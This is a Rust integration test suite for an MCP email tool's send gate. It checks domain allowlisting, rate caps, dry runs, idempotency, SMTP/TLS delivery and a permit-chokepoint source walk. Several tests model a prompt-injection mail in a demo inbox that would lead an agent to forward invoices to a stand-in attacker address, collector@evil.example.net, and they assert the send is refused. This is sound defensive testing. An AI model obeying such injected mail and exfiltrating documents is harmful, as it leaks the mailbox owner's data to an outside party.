@@ -1,0 +1,906 @@
+//! The send family over real stdio MCP: the outbox path on the demo, the refused prompt-injection
+//! send, exact domain matching, dry runs, the send cap, idempotency keys, SMTP end to end
+//! against a real SMTP server on loopback (aiosmtpd, started here), the closed gate, and a
+//! source walk proving that every send path takes a permit.
+
+use std::net::TcpStream;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::util::{Client, World, demo_config, text_of};
+
+const SENDER_ENV: [(&str, &str); 3] = [
+    ("PLUGIN_ALLOW_SEND", "true"),
+    ("OUTLOOK_SEND_FROM", "finance@example.com"),
+    ("OUTLOOK_ALLOWED_SENDERS", "finance@example.com"),
+];
+
+fn send_world() -> World {
+    SENDER_ENV
+        .iter()
+        .fold(World::new(), |world, (k, v)| world.with(k, v))
+}
+
+/// The files of a Maildir folder (`new/` and `cur/`).
+fn maildir_files(folder: &Path) -> Vec<PathBuf> {
+    let mut files = Vec::new();
+    for sub in ["new", "cur"] {
+        if let Ok(entries) = std::fs::read_dir(folder.join(sub)) {
+            files.extend(entries.map(|e| e.unwrap().path()));
+        }
+    }
+    files.sort();
+    files
+}
+
+fn outbox(world: &World) -> Vec<PathBuf> {
+    maildir_files(&world.state().join("outbox"))
+}
+
+fn finance_sent(world: &World) -> Vec<PathBuf> {
+    maildir_files(&world.state().join("demo/mail/finance/.Sent"))
+}
+
+/// A call that must fail in-band: (stable code, text).
+async fn refusal(client: &Client, args: Value) -> (String, String) {
+    let result = client.call("send_email", args).await.unwrap();
+    assert_eq!(
+        result.is_error,
+        Some(true),
+        "{:?}",
+        result.structured_content
+    );
+    let code = result.meta.as_ref().unwrap().0["mailgate/errorCode"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    (code, text_of(&result))
+}
+
+fn assert_no_address_or_domain(text: &str, forbidden: &[&str]) {
+    assert!(!text.contains('@'), "an address leaked: {text}");
+    for word in forbidden {
+        assert!(!text.contains(word), "{word} leaked: {text}");
+    }
+}
+
+#[tokio::test]
+async fn the_demo_sends_through_the_outbox_and_files_a_sent_copy() {
+    let world = send_world();
+    let client = world.demo_client().await;
+    let sent_before = finance_sent(&world).len();
+    assert_eq!(sent_before, 12, "the demo's finance Sent folder");
+    assert!(outbox(&world).is_empty());
+
+    let out = client
+        .ok(
+            "send_email",
+            json!({
+                "to": ["ana.lima@example.com"],
+                "bcc": ["records@example.com"],
+                "subject": "Q3 reconciliation figures",
+                "body": "Hello Ana,\nthe Q3 figures are attached to the ledger.\n",
+            }),
+        )
+        .await;
+    assert_eq!(out["status"], "sent");
+    assert_eq!(out["mailbox"], "finance");
+    assert_eq!(out["transport"], "outbox");
+    assert_eq!(out["recipients"], 2);
+    assert!(out["sizeBytes"].as_u64().unwrap() > 0);
+    let message_id = out["messageId"].as_str().unwrap().to_owned();
+    assert!(message_id.starts_with('<') && message_id.ends_with("@example.com>"));
+    assert!(out.get("warnings").is_none(), "{out}");
+
+    let files = outbox(&world);
+    assert_eq!(files.len(), 1, "one message delivered");
+    assert!(files[0].parent().unwrap().ends_with("outbox/new"));
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&files[0]).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    let raw = std::fs::read_to_string(&files[0]).unwrap();
+    assert!(raw.contains("Subject: Q3 reconciliation figures"), "{raw}");
+    assert!(raw.contains("ana.lima@example.com"));
+    assert!(raw.contains(&message_id));
+    assert!(!raw.contains("records@example.com"), "bcc is envelope-only");
+
+    // The Sent copy: one more file in finance's Sent, readable through the tools.
+    let sent = finance_sent(&world);
+    assert_eq!(sent.len(), sent_before + 1);
+    let copy = client
+        .ok(
+            "get_message",
+            json!({"mailbox": "finance", "messageId": out["sentItemId"]}),
+        )
+        .await;
+    assert!(copy.to_string().contains("Q3 reconciliation figures"));
+    client.close().await;
+}
+
+#[tokio::test]
+async fn the_prompt_injection_forward_is_refused_and_nothing_leaves() {
+    let world = send_world();
+    let client = world.demo_client().await;
+    // The injected mail is in finance's inbox; an agent that obeys it would reply/forward.
+    let found = client
+        .ok(
+            "search_mailbox",
+            json!({"mailbox": "finance", "criteria": {"query": "invoice audit"}}),
+        )
+        .await;
+    let injected = found["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m.to_string().contains("URGENT"))
+        .expect("the demo's injection mail")["id"]
+        .clone();
+
+    let (code, text) = refusal(
+        &client,
+        json!({
+            "to": ["collector@evil.example.net"],
+            "subject": "Fwd: invoices",
+            "body": "All invoices as requested.",
+            "inReplyTo": injected,
+        }),
+    )
+    .await;
+    assert_eq!(code, "POLICY_DENIED");
+    assert!(text.contains("RECIPIENT_DOMAIN_NOT_ALLOWED"), "{text}");
+    assert!(text.contains("do not retry"), "{text}");
+    assert_no_address_or_domain(&text, &["collector", "evil", "example.net", "example.com"]);
+    assert!(outbox(&world).is_empty(), "nothing was delivered");
+
+    // Threading with the same mail is fine when the recipient is chosen, and allowed, by us:
+    // inReplyTo sets the headers and never the recipients.
+    let out = client
+        .ok(
+            "send_email",
+            json!({
+                "to": ["ana.lima@example.com"],
+                "subject": "Re: URGENT: action required - invoice audit",
+                "body": "Ana, this looks like phishing; please do not act on it.",
+                "inReplyTo": injected,
+            }),
+        )
+        .await;
+    assert_eq!(out["recipients"], 1);
+    let raw = std::fs::read_to_string(&outbox(&world)[0]).unwrap();
+    assert!(raw.contains("In-Reply-To: <"), "{raw}");
+    assert!(
+        !raw.contains("evil.example.net"),
+        "no recipient from the original: {raw}"
+    );
+    client.close().await;
+}
+
+#[tokio::test]
+async fn subdomains_and_look_alikes_are_refused() {
+    let world = send_world();
+    let client = world.demo_client().await;
+    for (field, outside) in [
+        ("to", "a@evil.example.com"),
+        ("to", "a@notexample.com"),
+        ("cc", "a@example.com.evil.example.net"),
+        ("bcc", "a@evil.example.com"),
+    ] {
+        let mut args = json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b"});
+        args[field] = json!([outside]);
+        let (code, text) = refusal(&client, args).await;
+        assert_eq!(code, "POLICY_DENIED", "{outside}");
+        assert!(
+            text.contains("RECIPIENT_DOMAIN_NOT_ALLOWED: 1 recipient"),
+            "{text}"
+        );
+        assert_no_address_or_domain(&text, &["evil", "notexample"]);
+    }
+    // Case does not matter for the listed domain.
+    let out = client
+        .ok(
+            "send_email",
+            json!({"to": ["Ana.Lima@EXAMPLE.COM"], "subject": "s", "body": "b"}),
+        )
+        .await;
+    assert_eq!(out["status"], "sent");
+    assert_eq!(outbox(&world).len(), 1, "only the allowed message");
+    client.close().await;
+}
+
+#[tokio::test]
+async fn dry_runs_send_nothing_and_do_not_count_against_the_cap() {
+    let world = send_world().with("MAILGATE_SEND_MAX_PER_HOUR", "1");
+    let client = world.demo_client().await;
+    let args = json!({"to": ["ana.lima@example.com"], "cc": ["ana.lima@example.com"],
+                      "subject": "Draft figures", "body": "b", "dryRun": true});
+    for _ in 0..3 {
+        let out = client.ok("send_email", args.clone()).await;
+        assert_eq!(out["status"], "dry_run");
+        assert_eq!(out["verdict"], "allow");
+        assert_eq!(out["recipients"], 1, "duplicates counted once");
+        assert_eq!(out["subject"], "Draft figures");
+        assert!(out["sizeBytes"].as_u64().unwrap() > 0);
+        assert!(out.get("messageId").is_none());
+    }
+    let refused = client
+        .ok(
+            "send_email",
+            json!({"to": ["collector@evil.example.net"], "subject": "s", "body": "b",
+                   "dryRun": true}),
+        )
+        .await;
+    assert_eq!(refused["verdict"], "RECIPIENT_DOMAIN_NOT_ALLOWED");
+    assert_no_address_or_domain(refused["reason"].as_str().unwrap(), &["evil"]);
+    assert!(outbox(&world).is_empty(), "dry runs deliver nothing");
+    assert_eq!(finance_sent(&world).len(), 12, "and file nothing");
+
+    // The cap of one is still free after the dry runs: one real send, then the cap refuses.
+    let mut real = args.clone();
+    real["dryRun"] = json!(false);
+    assert_eq!(
+        client.ok("send_email", real.clone()).await["status"],
+        "sent"
+    );
+    let (code, text) = refusal(&client, real).await;
+    assert_eq!(code, "RATE_LIMITED");
+    assert!(text.contains("1 messages per hour"), "{text}");
+    assert_eq!(
+        client.ok("send_email", args).await["verdict"],
+        "RATE_LIMITED"
+    );
+    assert_eq!(outbox(&world).len(), 1);
+    client.close().await;
+}
+
+#[tokio::test]
+async fn an_idempotency_key_returns_the_first_receipt() {
+    let world = send_world();
+    let client = world.demo_client().await;
+    let key = "3f1c2a9e-8b7d-4c6e-9a1b-2c3d4e5f6a7b";
+    let args = json!({"to": ["ana.lima@example.com"], "subject": "Once only", "body": "b",
+                      "idempotencyKey": key});
+    let first = client.ok("send_email", args.clone()).await;
+    let again = client.ok("send_email", args.clone()).await;
+    assert_eq!(first, again, "the same receipt");
+    let mut upper = args.clone();
+    upper["idempotencyKey"] = json!(key.to_uppercase());
+    assert_eq!(client.ok("send_email", upper).await, first);
+    assert_eq!(outbox(&world).len(), 1, "sent once");
+    assert_eq!(finance_sent(&world).len(), 13, "filed once");
+
+    let mut changed = args.clone();
+    changed["subject"] = json!("Something else");
+    let (code, text) = refusal(&client, changed).await;
+    assert_eq!(code, "POLICY_DENIED");
+    assert!(text.contains("IDEMPOTENCY_MISMATCH"), "{text}");
+    assert_eq!(outbox(&world).len(), 1);
+
+    // A new key is a new message.
+    let mut fresh = args;
+    fresh["idempotencyKey"] = json!("9b2d7c1e-0f3a-4b5c-8d6e-7f8091a2b3c4");
+    let third = client.ok("send_email", fresh).await;
+    assert_ne!(third["messageId"], first["messageId"]);
+    assert_eq!(outbox(&world).len(), 2);
+    client.close().await;
+}
+
+#[tokio::test]
+async fn send_email_is_absent_and_refused_with_the_gate_closed() {
+    for world in [
+        World::new(),
+        World::new().with("PLUGIN_ALLOW_SEND", "false"),
+        // A configured sender does not open the gate by itself.
+        World::new()
+            .with("OUTLOOK_SEND_FROM", "finance@example.com")
+            .with("OUTLOOK_ALLOWED_SENDERS", "finance@example.com"),
+    ] {
+        let client = world.demo_client().await;
+        assert!(!client.tool_names().await.iter().any(|n| n == "send_email"));
+        let error = client
+            .call(
+                "send_email",
+                json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b"}),
+            )
+            .await
+            .expect_err("not in the catalog: a protocol error");
+        assert!(error.to_string().contains("not found"), "{error}");
+        client.close().await;
+        assert!(
+            !world.state().join("outbox").exists(),
+            "no outbox without the gate"
+        );
+    }
+    // The CLI refuses it the same way.
+    let world = World::new();
+    demo_config(&world).await;
+    let config = world.state().join("demo/plugin.json");
+    let out = world
+        .run(&[
+            "--config",
+            config.to_str().unwrap(),
+            "call",
+            "send_email",
+            r#"{"to":["ana.lima@example.com"],"subject":"s","body":"b"}"#,
+        ])
+        .await;
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("tool not found"));
+}
+
+#[tokio::test]
+async fn a_bad_send_cap_aborts_startup() {
+    for bad in ["0", "1001", "many", "-3"] {
+        let world = send_world().with("MAILGATE_SEND_MAX_PER_HOUR", bad);
+        let out = world.run(&["demo", "--serve"]).await;
+        assert_eq!(out.status.code(), Some(1), "{bad}");
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(stderr.contains("MAILGATE_SEND_MAX_PER_HOUR"), "{stderr}");
+    }
+}
+
+#[tokio::test]
+async fn the_cli_shows_the_refused_injection_send() {
+    let world = send_world();
+    demo_config(&world).await;
+    let config = world.state().join("demo/plugin.json");
+    let out = world
+        .run(&[
+            "--config",
+            config.to_str().unwrap(),
+            "call",
+            "send_email",
+            r#"{"to":["collector@evil.example.net"],"subject":"Invoices","body":"As requested."}"#,
+        ])
+        .await;
+    assert_eq!(out.status.code(), Some(1));
+    let stdout: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(stdout["error"]["code"], "POLICY_DENIED");
+    let message = stdout["error"]["message"].as_str().unwrap();
+    assert!(
+        message.starts_with("RECIPIENT_DOMAIN_NOT_ALLOWED"),
+        "{message}"
+    );
+    assert_no_address_or_domain(message, &["evil"]);
+    assert!(outbox(&world).is_empty());
+}
+
+// --- SMTP end to end --------------------------------------------------------------------------
+
+/// A real SMTP server on loopback (aiosmtpd's Mailbox handler writes each message it accepts to
+/// a Maildir), killed when dropped.
+struct SmtpSink {
+    child: Child,
+    port: u16,
+    maildir: PathBuf,
+}
+
+impl SmtpSink {
+    fn start(dir: &Path) -> SmtpSink {
+        SmtpSink::start_with(dir, &[])
+    }
+
+    /// `extra`: aiosmtpd options, e.g. `--tlscert`/`--tlskey` (STARTTLS, required by the
+    /// server) or `--smtpscert`/`--smtpskey` (implicit TLS).
+    fn start_with(dir: &Path, extra: &[&Path]) -> SmtpSink {
+        let probe = Command::new("python3")
+            .args(["-c", "import aiosmtpd"])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status();
+        assert!(
+            probe.is_ok_and(|status| status.success()),
+            "the SMTP end-to-end test needs python3 with aiosmtpd; scripts/test.sh installs it \
+             (python3 -m pip install aiosmtpd)"
+        );
+        let port = std::net::TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+        let maildir = dir.join(format!("smtp-sink-{port}"));
+        let child = Command::new("python3")
+            .args(["-m", "aiosmtpd", "-n", "-l"])
+            .arg(format!("127.0.0.1:{port}"))
+            .args(extra)
+            .args(["-c", "aiosmtpd.handlers.Mailbox"])
+            .arg(&maildir)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("python3 -m aiosmtpd starts");
+        let sink = SmtpSink {
+            child,
+            port,
+            maildir,
+        };
+        let deadline = Instant::now() + Duration::from_secs(15);
+        while TcpStream::connect(("127.0.0.1", sink.port)).is_err() {
+            assert!(
+                Instant::now() < deadline,
+                "aiosmtpd did not start listening"
+            );
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        sink
+    }
+
+    fn received(&self) -> Vec<String> {
+        maildir_files(&self.maildir)
+            .iter()
+            .map(|p| std::fs::read_to_string(p).unwrap())
+            .collect()
+    }
+}
+
+impl Drop for SmtpSink {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A world whose finance mailbox (the demo's Maildir) sends through `smtp` (a JSON object's
+/// inner keys besides host and port), served over stdio.
+async fn smtp_world(world: World, port: u16, smtp: &str) -> (World, Client) {
+    demo_config(&world).await;
+    let finance = world.state().join("demo/mail/finance");
+    let json = format!(
+        r#"{{ "mailboxes": [
+            {{ "alias": "finance", "address": "finance@example.com", "backend": {{
+                "kind": "maildir", "path": "{path}",
+                "smtp": {{ "host": "127.0.0.1", "port": {port}, {smtp} }} }} }}
+        ] }}"#,
+        path = finance.display(),
+    );
+    let world = SENDER_ENV
+        .iter()
+        .fold(world, |world, (k, v)| world.with(k, v))
+        .config(&json, 0o600);
+    let client = world.client(&["serve"]).await;
+    (world, client)
+}
+
+/// Waits until the sink holds `count` messages (it writes them after answering), then a little
+/// longer so a late extra one would be seen.
+async fn wait_for(sink: &SmtpSink, count: usize) -> Vec<String> {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while sink.received().len() < count && Instant::now() < deadline {
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    sink.received()
+}
+
+#[tokio::test]
+async fn smtp_end_to_end_delivers_only_the_permitted_message() {
+    let world = World::new();
+    let sink = SmtpSink::start(world.path());
+    let (world, client) = smtp_world(world, sink.port, r#""security": "plain""#).await;
+
+    let refused = json!({"to": ["collector@evil.example.net"], "subject": "Invoices",
+                         "body": "As requested."});
+    let (code, _) = refusal(&client, refused).await;
+    assert_eq!(code, "POLICY_DENIED");
+    let dry = client
+        .ok(
+            "send_email",
+            json!({"to": ["ana.lima@example.com"], "subject": "s", "body": "b", "dryRun": true}),
+        )
+        .await;
+    assert_eq!(
+        (dry["verdict"].as_str(), dry["transport"].as_str()),
+        (Some("allow"), Some("smtp"))
+    );
+
+    let out = client
+        .ok(
+            "send_email",
+            json!({
+                "to": ["ana.lima@example.com"],
+                "bcc": ["records@example.com"],
+                "subject": "Ledger for June",
+                "body": "Hello Ana,\nthe June ledger is ready.\n",
+            }),
+        )
+        .await;
+    assert_eq!(out["status"], "sent");
+    assert_eq!(out["transport"], "smtp");
+    assert!(
+        out.get("warnings").is_none(),
+        "the Sent copy was filed: {out}"
+    );
+
+    let received = wait_for(&sink, 1).await;
+    assert_eq!(
+        received.len(),
+        1,
+        "exactly the permitted message reached the server"
+    );
+    let message = &received[0];
+    assert!(message.contains("Subject: Ledger for June"), "{message}");
+    assert!(message.contains(out["messageId"].as_str().unwrap()));
+    // aiosmtpd records the envelope: the pinned sender, and the bcc recipient in RCPT TO only.
+    assert!(
+        message.contains("X-MailFrom: finance@example.com"),
+        "{message}"
+    );
+    let rcpt = message
+        .lines()
+        .find(|l| l.starts_with("X-RcptTo:"))
+        .expect("envelope recipients");
+    assert!(rcpt.contains("ana.lima@example.com") && rcpt.contains("records@example.com"));
+    assert_eq!(
+        message.matches("records@example.com").count(),
+        1,
+        "no Bcc header"
+    );
+    assert!(
+        !message.contains("evil.example.net"),
+        "the refused send never reached it"
+    );
+    assert_eq!(finance_sent(&world).len(), 13, "a Sent copy");
+    assert!(
+        !world.state().join("outbox").exists(),
+        "SMTP mailboxes use no outbox"
+    );
+    client.close().await;
+    drop(sink);
+}
+
+/// A throwaway CA and a server certificate for 127.0.0.1 signed by it (openssl CLI).
+struct TestPki {
+    ca: PathBuf,
+    cert: PathBuf,
+    key: PathBuf,
+}
+
+fn test_pki(dir: &Path) -> TestPki {
+    let run = |args: &[&str]| {
+        let status = Command::new("openssl")
+            .args(args)
+            .current_dir(dir)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .expect("openssl is installed");
+        assert!(status.success(), "openssl {args:?}");
+    };
+    let ec = [
+        "-newkey",
+        "ec",
+        "-pkeyopt",
+        "ec_paramgen_curve:prime256v1",
+        "-nodes",
+    ];
+    let ca_args = [
+        "-keyout",
+        "ca.key",
+        "-out",
+        "ca.pem",
+        "-days",
+        "2",
+        "-subj",
+        "/CN=mailgate test CA",
+        "-addext",
+        "basicConstraints=critical,CA:TRUE",
+        "-addext",
+        "keyUsage=critical,keyCertSign,cRLSign",
+    ];
+    run(&[&["req", "-x509"][..], &ec, &ca_args].concat());
+    let csr_args = [
+        "-keyout",
+        "server.key",
+        "-out",
+        "server.csr",
+        "-subj",
+        "/CN=127.0.0.1",
+    ];
+    run(&[&["req"][..], &ec, &csr_args].concat());
+    std::fs::write(
+        dir.join("server.ext"),
+        "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\n\
+         keyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n",
+    )
+    .unwrap();
+    run(&[
+        "x509",
+        "-req",
+        "-in",
+        "server.csr",
+        "-CA",
+        "ca.pem",
+        "-CAkey",
+        "ca.key",
+        "-CAcreateserial",
+        "-out",
+        "server.pem",
+        "-days",
+        "2",
+        "-extfile",
+        "server.ext",
+    ]);
+    TestPki {
+        ca: dir.join("ca.pem"),
+        cert: dir.join("server.pem"),
+        key: dir.join("server.key"),
+    }
+}
+
+#[tokio::test]
+async fn smtp_over_starttls_and_implicit_tls_verifies_the_server() {
+    let send = json!({"to": ["ana.lima@example.com"], "subject": "Over TLS", "body": "b"});
+    let world = World::new();
+    let pki = test_pki(world.path());
+    let ca = pki.ca.display().to_string();
+
+    // STARTTLS (the server requires it) with the test CA as caFile: delivered.
+    let starttls = SmtpSink::start_with(
+        world.path(),
+        &[
+            Path::new("--tlscert"),
+            &pki.cert,
+            Path::new("--tlskey"),
+            &pki.key,
+        ],
+    );
+    let smtp = format!(r#""security": "starttls", "caFile": "{ca}""#);
+    let (_world, client) = smtp_world(world, starttls.port, &smtp).await;
+    assert_eq!(
+        client.ok("send_email", send.clone()).await["transport"],
+        "smtp"
+    );
+    assert_eq!(wait_for(&starttls, 1).await.len(), 1);
+    client.close().await;
+
+    // The same server without the caFile: its certificate is not trusted, nothing is sent, and
+    // the failure is a class, not the TLS library's text.
+    let (world, client) =
+        smtp_world(World::new(), starttls.port, r#""security": "starttls""#).await;
+    let (code, text) = refusal(&client, send.clone()).await;
+    assert_eq!(code, "BACKEND_UNAVAILABLE", "{text}");
+    assert!(text.contains("attempted once"), "{text}");
+    assert!(
+        text.contains("TLS connection"),
+        "the certificate check failed: {text}"
+    );
+    assert_eq!(
+        wait_for(&starttls, 1).await.len(),
+        1,
+        "nothing more arrived"
+    );
+    assert_eq!(
+        finance_sent(&world).len(),
+        12,
+        "no Sent copy for a failed send"
+    );
+    client.close().await;
+
+    // Implicit TLS (SMTPS) with the caFile: delivered.
+    let world = World::new();
+    let pki = test_pki(world.path());
+    let smtps = SmtpSink::start_with(
+        world.path(),
+        &[
+            Path::new("--smtpscert"),
+            &pki.cert,
+            Path::new("--smtpskey"),
+            &pki.key,
+        ],
+    );
+    let smtp = format!(r#""security": "tls", "caFile": "{}""#, pki.ca.display());
+    let (_world, client) = smtp_world(world, smtps.port, &smtp).await;
+    assert_eq!(
+        client.ok("send_email", send.clone()).await["status"],
+        "sent"
+    );
+    assert_eq!(wait_for(&smtps, 1).await.len(), 1);
+    client.close().await;
+
+    // starttls against a server that offers no STARTTLS: refused, never sent in the clear.
+    let world = World::new();
+    let plain = SmtpSink::start(world.path());
+    let smtp = format!(r#""security": "starttls", "caFile": "{ca}""#);
+    let (_world, client) = smtp_world(world, plain.port, &smtp).await;
+    let (code, text) = refusal(&client, send).await;
+    assert_eq!(code, "BACKEND_UNAVAILABLE");
+    assert!(text.contains("connection failed"), "{text}");
+    assert!(
+        wait_for(&plain, 0).await.is_empty(),
+        "no downgrade to plaintext"
+    );
+    client.close().await;
+}
+
+// --- source walk: the one chokepoint ----------------------------------------------------------
+
+/// Source files under `src/` with `//` comments removed (doc comments included), so prose that
+/// names a type does not count. String literals are kept: an outbox path in a literal counts.
+fn sources() -> Vec<(String, String)> {
+    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                walk(&path, out);
+            } else if path.extension().is_some_and(|e| e == "rs") {
+                out.push(path);
+            }
+        }
+    }
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
+    let mut files = Vec::new();
+    walk(&root, &mut files);
+    files
+        .into_iter()
+        .map(|path| {
+            let text = std::fs::read_to_string(&path).unwrap();
+            let rel = path
+                .strip_prefix(&root)
+                .unwrap()
+                .to_string_lossy()
+                .into_owned();
+            (rel, strip_comments(&text))
+        })
+        .collect()
+}
+
+fn strip_comments(text: &str) -> String {
+    text.lines()
+        .map(|line| match line.find("//") {
+            // Not inside a string literal on this line (an even number of quotes before it).
+            Some(at) if line[..at].matches('"').count() % 2 == 0 => &line[..at],
+            _ => line,
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Functions named like a send path that are not one, each pinned to its exact file and
+/// signature start (a changed signature is checked again). `backends/maildir.rs`'s private
+/// `deliver` is the Maildir delivery protocol (tmp/ then rename) used by append and copy inside
+/// the mailbox itself; nothing leaves through it. Renaming it makes this entry unnecessary.
+const NOT_SEND_PATHS: &[(&str, &str)] =
+    &[("backends/maildir.rs", "fn deliver(dir: &Dir, raw: &[u8],")];
+
+/// Every violation of the chokepoint rules in `files` (relative path, comment-free text).
+fn chokepoint_violations(files: &[(String, String)]) -> Vec<String> {
+    let mut violations = Vec::new();
+    for (path, text) in files {
+        for needle in [
+            "AsyncSmtpTransport",
+            "AsyncTransport",
+            "SmtpTransport",
+            "send_raw",
+            "lettre::transport",
+        ] {
+            if text.contains(needle) && path != "backends/smtp.rs" {
+                violations.push(format!(
+                    "{path}: SMTP transport call `{needle}` outside backends/smtp.rs"
+                ));
+            }
+        }
+        if text.contains("\"outbox\"") && path != "backends/outbox.rs" {
+            violations.push(format!("{path}: outbox path outside backends/outbox.rs"));
+        }
+        if text.contains("SendPermit {") && path != "policy/outbound.rs" {
+            violations.push(format!(
+                "{path}: a SendPermit built outside policy/outbound.rs"
+            ));
+        }
+        // Every `fn send` / `fn deliver` takes the permit by value.
+        let mut rest = text.as_str();
+        while let Some(at) = rest.find("fn ") {
+            let after = &rest[at + 3..];
+            let name: String = after
+                .chars()
+                .take_while(|c| c.is_alphanumeric() || *c == '_')
+                .collect();
+            if name == "send" || name == "deliver" {
+                let signature = after.split('{').next().unwrap_or("");
+                let params = signature.split(')').next().unwrap_or("");
+                let by_value = params.split(',').any(|p| {
+                    p.split(':')
+                        .nth(1)
+                        .is_some_and(|t| t.trim() == "SendPermit")
+                });
+                let exempt = NOT_SEND_PATHS.iter().any(|(file, start)| {
+                    file == path
+                        && rest[at..].starts_with(start)
+                        && !rest[..at].ends_with("pub(crate) ")
+                });
+                if !by_value && !exempt {
+                    violations.push(format!(
+                        "{path}: fn {name} does not take a SendPermit by value"
+                    ));
+                }
+            }
+            rest = &after[name.len()..];
+        }
+    }
+    violations
+}
+
+#[test]
+fn every_send_path_goes_through_the_permit() {
+    let files = sources();
+    assert!(files.iter().any(|(p, _)| p == "backends/smtp.rs"));
+    assert!(files.iter().any(|(p, _)| p == "backends/outbox.rs"));
+    let violations = chokepoint_violations(&files);
+    assert!(violations.is_empty(), "{violations:#?}");
+    // The walk sees the real send paths (so it would see a new one).
+    let send_fns: usize = files
+        .iter()
+        .map(|(_, t)| t.matches("fn send(").count() + t.matches("fn deliver(").count())
+        .sum();
+    assert!(
+        send_fns >= 3,
+        "smtp send, outbox deliver, the tool's dispatch: {send_fns}"
+    );
+}
+
+#[test]
+fn the_walk_finds_a_bypass() {
+    let bad =
+        |path: &str, text: &str| chokepoint_violations(&[(path.to_owned(), strip_comments(text))]);
+    assert_eq!(
+        bad(
+            "tools/send.rs",
+            "async fn send(&self, to: &str, bytes: &[u8]) -> R {"
+        )
+        .len(),
+        1
+    );
+    assert_eq!(
+        bad(
+            "backends/imap.rs",
+            "fn deliver(&self, permit: &SendPermit) {"
+        )
+        .len(),
+        1
+    );
+    assert_eq!(
+        bad(
+            "tools/x.rs",
+            "use lettre::AsyncTransport; t.send_raw(&e, b).await"
+        )
+        .len(),
+        2
+    );
+    assert_eq!(
+        bad("tools/x.rs", r#"let d = root.open_dir("outbox");"#).len(),
+        1
+    );
+    assert_eq!(
+        bad(
+            "tools/x.rs",
+            "let p = SendPermit { message, _private: () };"
+        )
+        .len(),
+        1
+    );
+    // Prose in comments does not count; a real signature with a permit passes.
+    assert!(bad("tools/x.rs", "// AsyncSmtpTransport lives in smtp.rs\n").is_empty());
+    assert!(
+        bad(
+            "backends/y.rs",
+            "pub(crate) async fn send(&self, permit: SendPermit) -> R {"
+        )
+        .is_empty()
+    );
+    // The pinned exemption covers that one private helper only.
+    let helper = "fn deliver(dir: &Dir, raw: &[u8], secs: i64) -> R {";
+    assert!(bad("backends/maildir.rs", helper).is_empty());
+    assert_eq!(bad("backends/outbox.rs", helper).len(), 1);
+    assert_eq!(
+        bad("backends/maildir.rs", &format!("pub(crate) {helper}")).len(),
+        1
+    );
+    assert_eq!(
+        bad("backends/maildir.rs", "fn deliver(dir: &Dir, to: &str) {").len(),
+        1
+    );
+}
